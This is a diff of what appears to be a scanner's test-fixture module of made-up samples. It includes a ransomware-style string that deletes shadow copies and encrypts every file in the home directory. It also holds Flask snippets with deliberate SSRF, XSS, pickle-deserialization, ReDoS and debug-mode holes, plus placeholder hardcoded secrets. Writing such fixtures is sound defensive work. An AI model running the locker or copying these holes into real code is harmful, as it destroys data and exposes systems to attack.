@@ -1,4 +1,4 @@
-"""Made-up things to judge and small programs to look at: scripts, packages, pages, code with one weakness each."""
+"""Made-up things to judge, and small programs with one weakness each."""
 
 from __future__ import annotations
 
@@ -68,13 +68,13 @@ def paste_page() -> bytes:
 def locker() -> bytes:
     """Encrypt every file of a home and delete what would help."""
     return (
-        "import os, subprocess\nfrom cryptography.fernet import Fernet\n"
-        "subprocess.run('vssadmin delete shadows /all /quiet', shell=True)\n"
-        "key = Fernet(Fernet.generate_key())\n"
-        "for folder, _, names in os.walk(os.path.expanduser('~')):\n"
-        "    for name in names:\n        path = os.path.join(folder, name)\n"
-        "        data = open(path, 'rb').read()\n        open(path, 'wb').write(key.encrypt(data))\n"
-    ).encode()
+        b"import os, subprocess\nfrom cryptography.fernet import Fernet\n"
+        b"subprocess.run('vssadmin delete shadows /all /quiet', shell=True)\n"
+        b"key = Fernet(Fernet.generate_key())\n"
+        b"for folder, _, names in os.walk(os.path.expanduser('~')):\n"
+        b"    for name in names:\n        path = os.path.join(folder, name)\n"
+        b"        data = open(path, 'rb').read()\n        open(path, 'wb').write(key.encrypt(data))\n"
+    )
 
 
 def shell_back() -> bytes:
@@ -93,16 +93,20 @@ def harmless() -> bytes:
     return b"#!/bin/sh\nset -e\nfind /var/backups/clinic -name '*.gz' -mtime +30 -print\necho done\n"
 
 
+FLASK: Final = "from flask import Flask, request\napp = Flask(__name__)\n\n\n"
 PROGRAMS: Final = {
     "scan-secret": {
-        "settings.py": "AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzKEY'\nDB_PASSWORD = 'Sommer2026!klinik'\n"
+        "settings.py": "AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzKEY'\n"
+        "DB_PASSWORD = 'Sommer2026!klinik'\n"
     },
     "scan-ssrf": {
-        "fetch.py": "import requests\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n@app.get('/preview')\n"
+        "fetch.py": f"import requests\n{FLASK}"
+        "@app.get('/preview')\n"
         "def preview():\n    return requests.get(request.args['url'], timeout=5).text\n"
     },
     "scan-visitors": {
-        "guestbook.py": "from flask import Flask, request\napp = Flask(__name__)\n\n\n@app.get('/hello')\ndef hello():\n"
+        "guestbook.py": f"{FLASK}"
+        "@app.get('/hello')\ndef hello():\n"
         "    return '<h1>Hello ' + request.args['name'] + '</h1>'\n"
     },
     "scan-crypto": {
@@ -111,17 +115,21 @@ PROGRAMS: Final = {
         "    return requests.post('https://lab.example/api', json=data, verify=False, timeout=5)\n"
     },
     "scan-pickle": {
-        "worker.py": "import pickle\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n@app.post('/job')\ndef job():\n"
+        "worker.py": f"import pickle\n{FLASK}"
+        "@app.post('/job')\ndef job():\n"
         "    return str(pickle.loads(request.data))\n"
     },
     "scan-slow": {
-        "check.py": "import re\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n@app.get('/mail')\ndef mail():\n"
+        "check.py": f"import re\n{FLASK}"
+        "@app.get('/mail')\ndef mail():\n"
         "    return str(bool(re.match(r'^(a+)+$', request.args['m'])))\n"
     },
     "scan-clean": {
-        "clean.py": "import sqlite3\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n@app.get('/item')\ndef item():\n"
+        "clean.py": "import sqlite3\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n"
+        "@app.get('/item')\ndef item():\n"
         "    base = sqlite3.connect('shop.db')\n"
-        "    return str(base.execute('select * from item where name = ?', (request.args['name'],)).fetchall())\n"
+        "    rows = base.execute('select * from item where name = ?', (request.args['name'],))\n"
+        "    return str(rows.fetchall())\n"
     },
     "scan-nothing": {
         "totals.py": "def total(prices: list[float]) -> float:\n    return round(sum(prices), 2)\n"
@@ -131,7 +139,7 @@ PROGRAMS: Final = {
         "broken.py": "def broken(:\n    pass\n" * 3 + "\x00",
     },
     "scan-settings": {
-        "run.py": "from flask import Flask\napp = Flask(__name__)\n\nif __name__ == '__main__':\n    app.run(host='0.0.0.0', debug=True)\n"
+        "run.py": f"{FLASK}if __name__ == '__main__':\n    app.run(host='0.0.0.0', debug=True)\n"
     },
 }
 """By the name of their case: files and their text."""
